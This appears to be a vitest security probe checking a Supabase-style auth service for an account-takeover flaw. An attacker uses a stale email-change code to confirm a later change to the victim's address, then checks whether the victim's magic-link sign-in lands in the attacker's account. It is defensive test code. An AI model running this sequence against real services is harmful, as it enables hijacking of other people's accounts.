// Probe (takeover): on the Supabase face, the code mailed for an earlier email change (to an address the attacker
// reads) confirms a LATER change to an address they do not: the victim's address becomes the attacker's, verified.
import { describe, expect, it } from "vitest";
import { mailbox, uniqueAddress, uniqueEmail } from "./helpers";
import { supabaseClient, supabaseService } from "./faces/supabase/support";

const svc = supabaseService({ AUTH_EMAIL_PASSWORDLESS_ENABLED: "true" });
const newestCode = async (to: string) => /(\d{6})\s*$/.exec((await mailbox(svc, to))[0]!.text.trim())![1]!;
const client = () => supabaseClient(svc, undefined, { "cf-connecting-ip": uniqueAddress() });

describe("email change confirmed by a stale code", () => {
  it("sets the victim's address on the attacker's account, verified, without the victim's inbox", async () => {
    const attackerEmail = uniqueEmail("attacker");
    const attackerSecond = uniqueEmail("attacker-second");
    const victimEmail = uniqueEmail("victim");
    const attacker = client();
    expect((await attacker.auth.signUp({ email: attackerEmail, password: "attacker password 123" })).error).toBeNull();
    expect((await attacker.auth.signInWithPassword({ email: attackerEmail, password: "attacker password 123" })).error).toBeNull();
    // 1. A change to a second address the attacker reads: its code arrives there.
    expect((await attacker.auth.updateUser({ email: attackerSecond })).error).toBeNull();
    const code = await newestCode(attackerSecond);
    // 2. A change to the victim's address (the mail goes to the victim; the attacker never sees it).
    const toVictim = await attacker.auth.updateUser({ email: victimEmail });
    console.log("change to the victim's address requested:", toVictim.error?.code ?? "ok", toVictim.data.user?.new_email);
    // 3. The first code, with the address it was mailed to.
    const confirmed = await attacker.auth.verifyOtp({ email: attackerSecond, token: code, type: "email_change" });
    console.log("stale code:", confirmed.error?.code ?? "ok", "account email now:", confirmed.data.user?.email, "confirmed at:", confirmed.data.user?.email_confirmed_at);
    // 4. The victim signs in by magic link later: into the attacker's account, whose password still works.
    const victim = client();
    expect((await victim.auth.signInWithOtp({ email: victimEmail })).error).toBeNull();
    const signedIn = await victim.auth.verifyOtp({ email: victimEmail, token: await newestCode(victimEmail), type: "email" });
    const again = await client().auth.signInWithPassword({ email: victimEmail, password: "attacker password 123" });
    console.log("victim's magic link lands in the attacker's account:", signedIn.data.user?.id === confirmed.data.user?.id, "attacker's password still in:", again.error?.code ?? "SIGNED IN");
    expect(confirmed.data.user?.email).not.toBe(victimEmail);
  });
});
